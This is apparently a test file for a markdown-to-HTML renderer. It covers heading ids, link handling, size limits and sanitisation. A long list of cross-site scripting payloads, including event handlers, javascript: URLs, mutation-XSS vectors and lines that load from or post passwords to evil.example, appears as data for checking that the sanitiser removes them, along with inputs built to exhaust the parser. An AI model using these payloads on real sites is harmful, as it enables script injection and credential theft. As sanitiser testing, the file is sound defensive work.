import type { Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { renderMarkdown } from './markdown.ts';

const html = (source: string): string => renderMarkdown(source).body_html;

test('CommonMark, tables and strikethrough become HTML', () => {
  expect(html('# Hi *you*\n\n~~no~~ `code`')).toContain('<s>no</s> <code>code</code>');
  expect(html('|a|b|\n|-|-|\n|1|2|')).toContain('<td>2</td>');
  expect(html('**bold** <kbd>Ctrl</kbd>')).toBe('<p><strong>bold</strong> <kbd>Ctrl</kbd></p>\n');
});

test('Headings get ids that are unique, in any script, and name nothing of the page', () => {
  expect(html('# Árvíz\n\n# Árvíz\n\n## 你好')).toBe(
    '<h1 id="content-arviz">Árvíz</h1>\n<h1 id="content-arviz--2">Árvíz</h1>\n<h2 id="content-ni-hao">你好</h2>\n',
  );
  expect(html('<p id="location" name="cookie">x</p>')).not.toMatch(/ id=| name=/);
});

test('Links within the text lead to its headings', () => {
  const hrefs = (source: string): (string | undefined)[] =>
    [...html(source).matchAll(/href="([^"]*)"/g)].map(([, href]) => href);
  const headings = '# Getting started\n\n## Árvíz\n\n## Árvíz\n\n';
  // By the id, without its prefix, with the number of a repeated heading, and in the letters of the heading.
  expect(hrefs(`${headings}[a](#content-getting-started) [a](#getting-started)`)).toEqual(
    Array(2).fill('#content-getting-started'),
  );
  expect(hrefs(`${headings}[a](#arviz) [a](#árvíz) [a](#%C3%81rv%C3%ADz)`)).toEqual(
    Array(3).fill('#content-arviz'),
  );
  expect(hrefs(`${headings}<a href="#Árvíz">a</a> [a](#arviz--2)`)).toEqual([
    '#content-arviz',
    '#content-arviz--2',
  ]);
  // The link may come first.
  expect(hrefs(`[a](#last)\n\n# Last`)).toEqual(['#content-last']);
  // The whole id comes before the id without its prefix.
  expect(hrefs('# Content list\n\n# List\n\n[a](#content-list)')).toEqual(['#content-list']);
});

test('Links to no heading stay as they are', () => {
  const links = [
    '#',
    '#top',
    '#arviz--3',
    '#%',
    '#%FF',
    '#content-',
    '/page#arviz',
    'https://a.b/#arviz',
  ];
  for (const link of links) {
    expect(html(`# Árvíz\n\n<a href="${link}">a</a>`)).toContain(`<a href="${link}" `);
  }
  expect(html('[a](#arviz)')).toContain('href="#arviz"');
});

test('Links are not trusted', () => {
  expect(html('[a](https://example.com)')).toContain('rel="noopener nofollow ugc"');
  expect(html('<a href="https://example.com" rel="opener" target="_blank">a</a>')).toBe(
    '<p><a href="https://example.com" rel="noopener nofollow ugc">a</a></p>\n',
  );
});

test('The plain text has no markup, and its words are counted', () => {
  expect(renderMarkdown('# One\n\n**t**wo <b>three</b> &amp; [four](https://a.b)')).toMatchObject({
    body_text: 'One\ntwo three & four',
    word_count: 5,
  });
  expect(renderMarkdown('')).toEqual({ body_html: '', body_text: '', word_count: 0 });
});

test.each(['script', 'style', 'title', 'iframe', 'noembed', 'noframes'])(
  'A tag <%s> that nothing closes is text, and what follows is kept',
  (name) => {
    const rest = '\n\n## More\n\nImportant text';
    for (const tag of [`<${name}>`, `<${name.toUpperCase()} src="https://v.example"/>`]) {
      for (const source of [`Use ${tag} here.${rest}`, `x\n\n${tag}${rest}`]) {
        const { body_html, body_text } = renderMarkdown(source);
        expect(body_html).toContain('Important text');
        expect(body_html).not.toMatch(new RegExp(`<${name}`, 'i'));
        expect(body_text).toContain(tag);
      }
    }
    const closed = renderMarkdown(`a <${name}>b</${name}> c <${name}> d${rest}`);
    expect(closed.body_text).toMatch(/^a {1,2}c <[a-z]+> d\n/);
  },
);

test.each(['script', 'style', 'title', 'iframe', 'noembed', 'noframes'])(
  'What a page does not show in <%s> is in neither the HTML nor the text',
  (name) => {
    expect(renderMarkdown(`one\n\n<${name}>\n.hidden { }\n</${name}>\n\ntwo`)).toMatchObject({
      body_html: expect.not.stringContaining('hidden'),
      body_text: 'one\ntwo',
      word_count: 2,
    });
  },
);

test.each(['textarea', 'xmp', 'option', 'center'])(
  'What a page shows in <%s> is kept as text',
  (name) => {
    const { body_html, body_text } = renderMarkdown(`<${name}>one</${name}>`);
    expect([body_html, body_text]).toEqual([expect.stringContaining('one'), 'one']);
  },
);

test('Elements that are nested too deeply are refused', () => {
  expect(() => html('<div>'.repeat(201))).toThrow('more than 200 HTML elements');
  expect(html('<div>'.repeat(200))).toMatch(/^(<div>){200}/);
  // Those that are closed do not count.
  expect(html('<p><b>a</b></p>'.repeat(300))).toContain('<b>a</b>');
  expect(html('>'.repeat(100_000))).toMatch(/^(<blockquote>\s*){1,20}/);
});

test('A body that multiplies while it is parsed is refused', () => {
  const open = Array.from({ length: 150 }, (_, n) => `<b a=${n}>`).join('');
  expect(() => html(`<p>${open}${'<p>x'.repeat(13_000)}`)).toThrow('more than 50,000');
  // Each row of a table gets as many cells as the first one.
  const table = `${'a|'.repeat(55)}\n${'-|'.repeat(55)}\n${'a\n'.repeat(860)}`;
  expect(() => html(table)).toThrow('more than 6,826 HTML elements');
  expect(html(`a|b\n-|-\n${'a\n'.repeat(300)}`)).toContain('<td></td>');
  // The cells of many tables would take gigabytes before they are HTML.
  const wide = `${'a|'.repeat(1000)}\n${'-|'.repeat(1000)}\n${'a\n'.repeat(65)}\n`;
  expect(() => html(wide.repeat(23))).toThrow('more than 50,000 HTML elements');
});

test('A body that multiplies attributes is refused', () => {
  const long = 'x'.repeat(4000);
  const refusal = 'characters in attributes of HTML elements';
  expect(() => html(`<p><b title="${long}">${'<p>a'.repeat(1000)}`)).toThrow(refusal);
  expect(() => html(`<p><b ${long}>${'<p>a'.repeat(1000)}`)).toThrow(refusal);
  expect(() => html(`[a]: /${long}\n\n${'[a] '.repeat(1000)}`)).toThrow(refusal);
  // As one string, this would be 800 million characters.
  const address = 'x'.repeat(50_000);
  expect(() => html(`[a]: /${address}\n\n${'[a]'.repeat(16_000)}`)).toThrow(refusal);
  expect(() => html(`[a]: / "${address}"\n\n${'![a]'.repeat(12_000)}`)).toThrow(refusal);
  // Addresses of other scripts are encoded.
  expect(html('[a](/中文中文中文)\n'.repeat(2000))).toContain('href="/%E4%B8%AD');
});

test.each([
  [
    'a month of duties',
    `|name|${'1|'.repeat(31)}\n|-|${':-:|'.repeat(31)}\n${`|Ada|${'|'.repeat(31)}\n`.repeat(15)}`,
    /<td>Ada<\/td>\n(<td align="center"><\/td>\n){31}/,
  ],
  [
    'rows that lack cells',
    `|${'a|'.repeat(12)}\n|${'-|'.repeat(12)}\n${'|x|\n'.repeat(300)}`,
    /<td>x<\/td>\n(<td><\/td>\n){11}/,
  ],
  ['aligned numbers', `|a|b|\n|-:|-:|\n${'|1|2|\n'.repeat(2000)}`, /<td align="right">2<\/td>/],
  [
    'links to one long address',
    `${'- [item][1]\n'.repeat(60)}\n[1]: https://example.com/${'x'.repeat(268)}`,
    /(<li><a href="[^"]{288}" rel="[^"]+">item<\/a><\/li>\s){60}/,
  ],
])('An ordinary body with %s is not refused', (_, source, expected) => {
  expect(html(source)).toMatch(expected);
});

test('A body that becomes too long is refused', () => {
  const quotes = `<p><b title='${'"'.repeat(40_000)}'>${'<p>a'.repeat(9)}`;
  expect(() => html(quotes)).toThrow('more than 650,765 characters of HTML');
  const short = `<p><b title='${'"'.repeat(300)}'>${'<p>a'.repeat(30)}`;
  expect(() => html(short)).toThrow('more than 56,525 characters of HTML');
});

test('A long run of blanks is text like any other', () => {
  expect(renderMarkdown(`a${' '.repeat(99_998)}b`).word_count).toBe(2);
});

test('The sources of quotes and descriptions run nothing', () => {
  expect(html('<blockquote cite="javascript:alert(1)">a</blockquote>')).not.toContain('javascript');
  expect(html('<img src="https://a.b/c" longdesc="javascript:alert(1)">')).not.toContain(
    'javascript',
  );
});

const ELEMENTS = new Set(
  'a b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li ol p picture pre q rp rt ruby s samp section source span strike strong sub summary sup table tbody td tfoot th thead tr tt ul var'.split(
    ' ',
  ),
);

/** What could do harm in a browser that shows the HTML. */
const dangers = (source: string): string[] => {
  const found: string[] = [];
  // Parsed again, as a browser does with the stored HTML.
  visit(
    fromHtml(html(source), { fragment: true }) as Root,
    'element',
    ({ tagName, properties }) => {
      if (!ELEMENTS.has(tagName)) found.push(`<${tagName}>`);
      for (const [name, value] of Object.entries(properties)) {
        if (/^on|^style$|^srcDoc$|^formAction$|^srcSet$/i.test(name)) found.push(name);
        const isAddress = ['href', 'src', 'cite', 'longDesc'].includes(name);
        // Browsers ignore controls and white space in schemes.
        const address = `${value}`.replace(/[\p{Cc}\s]/gu, '');
        if (isAddress && /^[^/?#]*:/.test(address) && !/^(https?|mailto|tel):/i.test(address)) {
          found.push(`${name}=${address}`);
        }
      }
    },
  );
  return found;
};

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img src=`x`onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="&#x6A&#x61&#x76&#x61script&colon;alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt&colon;alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
  '![a](x"onerror="alert(1))',
  '![a"onerror=alert(1) b="](x)',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math href="javascript:alert(1)">a</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<div style="position:fixed;inset:0">a</div>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">a</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>a</details>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title></title><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml ?><img src=x onerror=alert(1)>',
  '<x onclick=alert(1)>a</x>',
  '<a\u000chref="javascript:alert(1)">a</a>',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '<p>**<script>alert(1)</script>**</p>',
])('Nothing that runs or loads code is left of %j', (source) => {
  expect(dangers(source)).toEqual([]);
});

test.each([
  ['a script', '<script>alert(1)</script>'],
  ['a handler', '<img src=x onerror=alert(1)>'],
])('The check finds %s in HTML that is not sanitised', (_, source) => {
  const names: string[] = [];
  visit(fromHtml(source, { fragment: true }) as Root, 'element', ({ tagName, properties }) => {
    names.push(tagName, ...Object.keys(properties));
  });
  expect(names.some((name) => !ELEMENTS.has(name) && /^(script|onError)$/.test(name))).toBe(true);
});

test('Images keep their descriptions and sizes, lists their first number, cells their alignment', () => {
  expect(html('![A cat](https://a.b/c.png "Tom")')).toBe(
    '<p><img src="https://a.b/c.png" alt="A cat" title="Tom"></p>\n',
  );
  expect(html('<img src="https://a.b/c.png" alt="" width="20" height="10">')).toBe(
    '<img src="https://a.b/c.png" alt="" width="20" height="10">',
  );
  expect(html('7. a\n8. b')).toBe('<ol start="7">\n<li>a</li>\n<li>b</li>\n</ol>\n');
  expect(html('<ol><li value="3">a</li></ol>')).toContain('<li value="3">');
  expect(html('|a|b|\n|-:|-|\n|1|2|')).toMatch(/<td align="right">1<\/td>\n<td>2<\/td>/);
  expect(html('<table><tr><td colspan="2" rowspan="3">a</td></tr></table>')).toContain(
    '<td colspan="2" rowspan="3">',
  );
  expect(html('<details open><summary>a</summary>b</details>')).toContain('<details open>');
});

test('Schemes are known in any case, and addresses that begin with www. are links', () => {
  expect(html('<MAILTO:FOO@BAR.BAZ>')).toContain('href="mailto:FOO@BAR.BAZ"');
  expect(html('[a](HTTPS://A.b/C)')).toContain('href="https://A.b/C"');
  expect(html('[a](JavaScript:alert(1))<a href="jAvAsCrIpT:alert(1)">b</a>')).not.toContain('href');
  expect(html('See www.example.com/a, or not.')).toContain(
    '<a href="http://www.example.com/a" rel="noopener nofollow ugc">www.example.com/a</a>, or not.',
  );
  expect(html('www. www.. notwww.example.com www.')).not.toContain('<a');
});

test.each(['textarea', 'xmp', 'plaintext'])(
  'A tag <%s> that nothing closes does not show the tags that follow',
  (name) => {
    const { body_html, body_text } = renderMarkdown(`Use <${name}> here.\n\n**More**`);
    expect(body_html).toContain('<p><strong>More</strong></p>');
    expect(body_text).toBe(`Use <${name}> here.\nMore`);
  },
);
